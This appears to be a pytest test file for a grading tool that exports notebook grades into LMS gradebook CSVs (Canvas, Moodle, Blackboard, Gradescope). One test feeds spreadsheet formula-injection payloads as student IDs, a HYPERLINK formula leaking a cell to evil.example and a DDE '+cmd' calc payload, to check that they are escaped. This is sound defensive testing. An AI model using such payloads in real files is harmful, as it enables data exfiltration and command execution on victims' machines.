"""`python -m grading export`: the gradebook's scores in the files that systems have written themselves."""

import csv
import io

import nbformat
import pytest

from grading.autograde.class_grader import autograde_class
from grading.lms.collect import collect
from grading.lms.export import EXPORTS
from grading.lms.grade_sheet import Sheet
from grading.util.errors import CourseError
from grading.util.spreadsheets import escape_formula
from tests import forked
from tests.course07 import ASSIGNMENT, handed_in

CANVAS = """Student,ID,SIS User ID,SIS Login ID,Section,Tensors (71),Module 07: Optimizers (72),Final Score
,,,,,Manual Posting,,
    Points Possible,,,,,50,100.00,(read only)
"Doe, Jane",1,S-1,jdoe,"One, two",41,,80
"Müller, Jürgen",2,S-2,jmueller,One,42,,81
"Nobody, Yet",9,S-9,nobody,One,43,7,82
"Student, Test",99,,abc,One,,,
"""
MOODLE = """Identifier,"Full name","Email address",Status,Grade,"Maximum Grade","Grade can be changed","Last modified (grade)"
"Participant 1","Jane Doe",jane@example.edu,Submitted,,100.00,Yes,-
"Participant 88","Jürgen Müller",JM@example.edu,Submitted,,100.00,Yes,-
"Participant 9","Yet Nobody",no@example.edu,"No submission",7,100.00,Yes,-
"""  # noqa: E501
BLACKBOARD = """"Last Name"\t"First Name"\t"Username"\t"Student ID"\t"Quiz [Total Pts: 5 Score] |70"\t"Optimizers [Total Pts: 100 Score] |71"
"Doe"\t"Jane"\t"jdoe"\t"S-1"\t"5"\t""
"Müller"\t"Jürgen"\t"jmueller"\t"S-2"\t"4"\t""
"Nobody"\t"Yet"\t"nobody"\t"S-9"\t"3"\t"7"
"""  # noqa: E501
GRADESCOPE = """First Name,Last Name,SID,Email,Sections,Total Score,Max Points,Status,Submission ID,Submission Time,Lateness (H:M:S)
Jane,Doe,S-1,jane@example.edu,,,100.0,Ungraded,11,2026-10-01 12:30:45 -0700,00:00:00
Jürgen,Müller,,jm@example.edu,,,100.0,Ungraded,12,2026-10-01 12:30:45 -0700,00:00:00
Yet,Nobody,S-9,no@example.edu,,7,100.0,Missing,,,
"""  # noqa: E501
TEMPLATES = {"canvas": CANVAS, "moodle": MOODLE, "blackboard": BLACKBOARD, "gradescope": GRADESCOPE}
SCORE_IN = {"canvas": 6, "moodle": 4, "blackboard": 5, "gradescope": 5}
STUDENTS = {
    "jdoe": {"lms_user_id": "1", "email": "jane@example.edu", "first_name": "Jane", "last_name": "Doe"},
    "jmueller": {"lms_user_id": "", "email": "jm@example.edu", "first_name": "Jürgen", "last_name": "Müller"},
}


def give(course, scores, by_hand=True):
    """Enter scores in the gradebook as grading would."""
    with course.gradebook() as gradebook:
        for student, score in scores.items():
            gradebook.update_or_create_student(student, **STUDENTS.get(student, {}))
            gradebook.update_or_create_submission(ASSIGNMENT, student)
            first, *_ = grades = gradebook.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, student).grades
            for grade in grades:
                grade.auto_score, grade.needs_manual_grade = 0, by_hand and grade.name.endswith("-answer")
            first.auto_score = score
        gradebook.db.commit()


@pytest.fixture
def graded(course):
    give(course, {"jdoe": 87.0, "jmueller": 62.125})
    return course


def export(course, system, template="", text=None, encoding="utf-8", **options):
    """The rows that are written, and the warnings."""
    if text is not None:
        template = course.root / "template.csv"
        template.write_bytes(text.encode(encoding))
    out = course.root / "out.csv"
    plugin = EXPORTS[system](to=str(out), template=str(template), **options)
    with course.gradebook() as gradebook:
        plugin.export(gradebook)
    return Sheet.read(out), plugin.warnings


@pytest.mark.parametrize("system", list(TEMPLATES))
def test_scores_go_into_their_cells_and_nothing_else_changes(graded, system):
    with graded.gradebook() as gradebook:  # what each system calls her, as collecting its archive notes it
        called = {"blackboard": "jdoe", "gradescope": "S-1"}.get(system, "1")
        gradebook.update_or_create_student("jdoe", lms_user_id=called)
    encoding = {"blackboard": "utf-16", "moodle": "utf-8-sig"}.get(system, "utf-8")
    sheet, warnings = export(graded, system, text=TEMPLATES[system], encoding=encoding)
    before = Sheet.read(graded.root / "template.csv")
    assert (sheet.encoding, sheet.delimiter) == (encoding, "\t" if system == "blackboard" else ",")
    at, differ = SCORE_IN[system], {}
    for row, was in zip(sheet.rows, before.rows, strict=True):
        assert [*row[:at], *row[at + 1 :]] == [*was[:at], *was[at + 1 :]]
        if row[at] != was[at]:
            differ[" ".join(was[:4])] = (was[at], row[at])
    assert sorted(differ.values()) == [("", "62.12"), ("", "87")]
    assert all(score == "87" for name, (_, score) in differ.items() if "Jane" in name)
    assert len(warnings) == 1 and warnings[0].startswith("10 answers of 2 students wait for a grade by hand")


def test_nothing_is_said_when_everything_is_graded(course):
    give(course, {"jdoe": 87.0}, by_hand=False)
    assert export(course, "canvas", text=CANVAS)[1] == []


@pytest.mark.parametrize("system", list(TEMPLATES))
def test_without_a_template_the_file_has_the_systems_own_columns(graded, system):
    sheet, _ = export(graded, system)
    names = {"canvas": "ID", "moodle": "Identifier", "blackboard": "Username", "gradescope": "SID"}
    ids = {row[sheet.column(names[system])] for row in sheet.rows[1:]} - {""}
    assert (
        ids
        == {
            "canvas": {"1"},
            "moodle": {"Participant 1"},
            "blackboard": {"1", "jmueller"},
            "gradescope": {"jdoe", "jmueller"},
        }[system]
    )
    assert "87" in [cell for row in sheet.rows for cell in row]
    if system == "canvas":
        assert sheet.rows[1] == ["    Points Possible", "", "", "", "", "100"]


def test_who_is_not_in_the_template_is_named(course):
    give(course, {"jdoe": 87.0, "stranger": 50.0}, by_hand=False)
    _, (warning,) = export(course, "canvas", text=CANVAS)
    assert "stranger" in warning and "jdoe" not in warning


@pytest.mark.parametrize(
    ("system", "old", "new", "says"),
    [
        ("canvas", "Optimizers (72)", "Adam (72)", "which column .* it has Tensors .71., Module 07: Adam .72."),
        ("canvas", "100.00,(read", "10.00,(read", "out of 10 points, the gradebook out of 100"),
        ("canvas", "jmueller", "jdoe", "rows 4 and 5 both are jdoe"),
        ("canvas", "ID,SIS User ID,SIS Login ID", "a,b,c", "no column ID"),
        ("canvas", '"Doe, Jane"', '"Doe, Jane', "no file of grades"),
        ("moodle", "100.00,Yes,-\n\"Participant 88", "20.00,Yes,-\n\"Participant 88", "out of 20 points"),
        ("blackboard", "Total Pts: 100", "Total Pts: 99", "out of 99 points"),
        ("gradescope", "Total Score", "Score", "which column"),
    ],
)  # fmt: skip
def test_a_template_that_does_not_fit_is_refused_and_no_file_is_written(graded, system, old, new, says):
    assert old in TEMPLATES[system]
    with graded.gradebook() as gradebook:
        gradebook.update_or_create_student("jdoe", lms_user_id="")
    with pytest.raises(CourseError, match=says):
        export(graded, system, text=TEMPLATES[system].replace(old, new))
    assert sorted(path.name for path in graded.root.iterdir()) == ["gradebook.db", "template.csv"]


def test_a_column_can_be_named(graded):
    text = CANVAS.replace("Tensors (71)", "Optimizers bonus (71)").replace(",50,", ",100,")
    with pytest.raises(CourseError, match="--column"):
        export(graded, "canvas", text=text)
    sheet, _ = export(graded, "canvas", text=text, column="bonus")
    assert sheet.rows[3][5] == "87" and sheet.rows[3][6] == ""


@pytest.mark.parametrize("content", [b"", b"\xff\xfe\x00", b"\xff\xff\xff,\xff", b"one column\n1", b"PK\x03\x04,\x80"])
def test_a_template_that_is_no_table_gets_one_line(graded, content):
    path = graded.root / "template.csv"
    path.write_bytes(content)
    with pytest.raises(CourseError) as raised:
        export(graded, "canvas", template=path)
    assert str(path) in str(raised.value) and len(str(raised.value).splitlines()) == 1


def test_an_id_that_is_a_formula_is_written_as_text(course):
    evil = '=HYPERLINK("http://evil.example?"&A1,"grades")'
    give(course, {evil: 1.0, "+cmd|' /C calc'!A0": 2.0}, by_hand=False)
    for system in EXPORTS:
        sheet, warnings = export(course, system)
        cells = [cell for row in sheet.rows for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
        assert f"'{evil}" in cells
        assert "an apostrophe" in warnings[0]


@pytest.mark.parametrize("cell", ["=1+1", "+a", "-1+cmd", "@x", "\t=1", "\r=1", " =1", "＝1", "-a"])
def test_what_a_spreadsheet_would_run(cell):
    assert escape_formula(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "-", "-1", "+2.5", "12,5", "100%", "a=b", "Doe, Jane", "    Points Possible"])
def test_what_it_would_not(cell):
    assert escape_formula(cell) == cell


def test_a_file_that_cannot_be_written_leaves_the_old_one(graded, monkeypatch, grading):
    (graded.root / "out.csv").write_text("the old one")

    def full(*_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("grading.util.files.os.replace", full)
    status, out, err = grading("export", "--to", "canvas", "-o", graded.root / "out.csv", "--course", graded.root)
    assert (status, out, err) == (
        2,
        "",
        f"error: {graded.root / 'out.csv'} cannot be written: No space left on device\n",
    )
    assert (graded.root / "out.csv").read_text() == "the old one"
    assert not list(graded.root.glob(".*partial"))


def test_before_anybody_is_graded(course, grading):
    status, _, err = grading("export", "--to", "moodle", "--course", course.root)
    assert status == 2 and "nobody has been graded yet" in err


def test_nbgraders_own_export_command_takes_the_exporters(graded, tmp_path):
    template, out = tmp_path / "template.csv", tmp_path / "out.csv"
    template.write_text(CANVAS, encoding="utf-8")
    done = forked.run(
        "nbgrader", "export", "--exporter=grading.lms.export.CanvasExport", "--to", out,
        f"--CanvasExport.template={template}", f"--CourseDirectory.db_url={graded.db_url}", cwd=graded.root,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    rows = {row["ID"]: row for row in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))}
    assert rows["1"]["Module 07: Optimizers (72)"] == "87"
    assert "wait for a grade by hand" in done.stderr


def test_from_the_archive_to_the_grades(course, generated, pack, grading):
    """Once all the way: Canvas's archive, graded, and back into Canvas's own file by Canvas's own id."""
    released = nbformat.read(generated.notebook("release", "."), as_version=4)
    notebook = nbformat.writes(handed_in("adam-epsilon-in-root", released))
    collect(course, pack({"doejane_LATE_1_10_07_optimizers-2.ipynb": notebook}))
    autograde_class(course, feedback=False)
    template = course.root / "template.csv"
    template.write_text(CANVAS, encoding="utf-8")
    status, out, err = grading("export", "--to", "canvas", "--template", template, "--course", course.root)
    assert status == 0 and "grades-canvas.csv" in out and "5 answers of 1 students" in err
    rows = Sheet.read(course.root / "grades-canvas.csv").rows
    assert {row[1]: row[6] for row in rows[3:]} == {"1": "87", "2": "", "9": "7", "99": ""}
